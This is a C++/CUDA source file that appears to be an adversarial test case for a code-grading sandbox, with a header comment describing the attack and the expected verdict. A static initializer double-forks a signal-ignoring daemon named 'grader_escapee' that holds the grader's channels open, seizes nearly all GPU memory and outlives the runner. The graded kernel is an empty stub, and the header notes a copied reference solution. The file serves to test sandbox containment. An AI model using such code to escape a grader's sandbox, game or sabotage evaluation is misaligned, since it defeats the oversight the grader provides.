// ATTACK: a static initializer, which runs inside the runner before its main, leaves a daemon
//      behind: it forks, the child calls setsid() and forks again, and the grandchild, re-parented
//      away from the runner, names itself "grader_escapee", ignores SIGHUP, SIGTERM, SIGINT and
//      SIGPIPE, keeps the grader's channel fds open, takes nearly all free GPU memory (all but
//      128 MiB, each block written once) and sleeps forever. The runner goes on only once the
//      daemon has its name and its memory (it says so through a pipe), then runs a stub launcher.
//      In the same submission, scan_brent_kung.cu is a copy of the reference, graded after this
//      exercise on the same GPU.
// EXPECTED VERDICT: the whole sandbox dies with the runner, daemon included: grade survives (it
//      does not wait forever on a channel the daemon holds open); this exercise scores 0 (its own
//      runner may fail to start CUDA beside the daemon's memory); no grader_escapee is left; the
//      GPU memory is freed, so scan_brent_kung, graded next, still scores full marks.

#include <cuda_runtime.h>

#include <csignal>
#include <vector>

#include <fcntl.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>

namespace {

std::vector<void*> held;

void hold_gpu_memory(std::size_t leave)
{
    for (std::size_t block : {std::size_t{1} << 30, std::size_t{64} << 20}) {
        for (;;) {
            std::size_t free_bytes = 0, total_bytes = 0;
            if (cudaMemGetInfo(&free_bytes, &total_bytes) != cudaSuccess || free_bytes < leave + block) break;
            void* p = nullptr;
            if (cudaMalloc(&p, block) != cudaSuccess) break;
            cudaMemset(p, 0x5a, block);
            held.push_back(p);
        }
    }
    cudaDeviceSynchronize();
}

struct DaemonAtStartup {
    DaemonAtStartup()
    {
        if (::fcntl(4, F_GETFD) < 0) return;   // only inside a runner started by the grader
        int ready[2];
        if (::pipe(ready) != 0) return;
        const pid_t child = ::fork();
        if (child == 0) {
            ::setsid();
            if (::fork() != 0) ::_exit(0);
            ::close(ready[0]);
            ::prctl(PR_SET_NAME, "grader_escapee", 0, 0, 0);
            for (int sig : {SIGHUP, SIGTERM, SIGINT, SIGPIPE}) std::signal(sig, SIG_IGN);
            hold_gpu_memory(std::size_t{128} << 20);
            const char byte = 'r';
            (void)!::write(ready[1], &byte, 1);
            ::close(ready[1]);
            for (;;) ::pause();
        }
        ::close(ready[1]);
        if (child > 0) ::waitpid(child, nullptr, 0);
        char byte = 0;
        (void)!::read(ready[0], &byte, 1);   // the daemon is ready (or gone: end of file)
        ::close(ready[0]);
    }
} daemon_at_startup;

}  // namespace

void scan_kogge_stone(const float* in, float* out, int n)
{
    (void)in, (void)out, (void)n;
}
